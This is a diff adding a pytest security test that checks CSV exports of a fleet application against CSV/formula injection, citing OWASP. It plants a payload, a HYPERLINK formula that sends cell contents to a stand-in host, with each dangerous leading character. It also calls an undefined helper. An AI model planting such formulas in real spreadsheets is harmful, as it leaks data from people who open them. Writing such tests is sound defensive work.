@@ -1,0 +1,64 @@
+"""Each file of CSV that is given out keeps a person's words from being computed by a spreadsheet.
+
+Source: OWASP, CSV Injection: cells that begin with = + - @, a tab or a carriage return.
+"""
+
+import csv
+import io
+import re
+
+import pytest
+
+from fleet.models import RejectedRow
+from tests.doors.addresses import DOORS
+
+pytestmark = [pytest.mark.doors, pytest.mark.security]
+
+GIVEN_OUT = {"ledger", "part-purchase", "reading-file-rejects"}
+DANGEROUS = {"equals": "=", "plus": "+", "minus": "-", "at": "@", "tab": "\t", "return": "\r"}
+FIGURE = re.compile(r"-?\d+(\.\d+)?")
+
+
+def asked_for(rows, door):
+    """The answer of a door that is asked for CSV, as its text; None where it gives something else."""
+    address = door.address(rows)
+    answer = door.client(rows, "owner").get(f"{address}{'&' if '?' in address else '?'}format=csv")
+    body = b"".join(answer.streaming_content) if answer.streaming else answer.content
+    return body.decode("utf-8-sig") if answer.get("Content-Type", "").startswith("text/csv") else None
+
+
+def test_which_doors_give_out_csv(ours):
+    found = {
+        door.name for door in DOORS.values() if door.get is not None and asked_for(ours, door) is not None
+    }
+    assert found == GIVEN_OUT
+
+
+@pytest.mark.parametrize("begins", DANGEROUS.values(), ids=DANGEROUS)
+def test_no_cell_of_them_is_a_formula(ours, begins):
+    planted = f'{begins}HYPERLINK("http://a.example/?"&A1,"Click")'
+    with ours.house.scope():
+        for model, names in (
+            (type(ours.machine), ["tag"]),
+            (type(ours.kind), ["maker"]),
+            (type(ours.part), ["number", "name", "grade"]),
+        ):
+            for number, row in enumerate(model.objects.all()):
+                model.objects.filter(pk=row.pk).update(**dict.fromkeys(names, f"{planted}{number}"[:60]))
+        RejectedRow.objects.create(
+            organisation=ours.house.organisation,
+            file=ours.file,
+            line=2,
+            reason=planted,
+            cells=[planted, "-5", f"'{planted}", "plain"],
+        )
+        plan = ours.file.plan
+        sample_head(ours.file, planted)
+    for name in sorted(GIVEN_OUT):
+        cells = [
+            cell for row in csv.reader(io.StringIO(asked_for(ours, DOORS[name]), newline="")) for cell in row
+        ]
+        assert any("HYPERLINK" in cell for cell in cells), name
+        for cell in cells:
+            assert not cell.startswith(tuple(DANGEROUS.values())) or FIGURE.fullmatch(cell), (name, cell)
+    assert plan
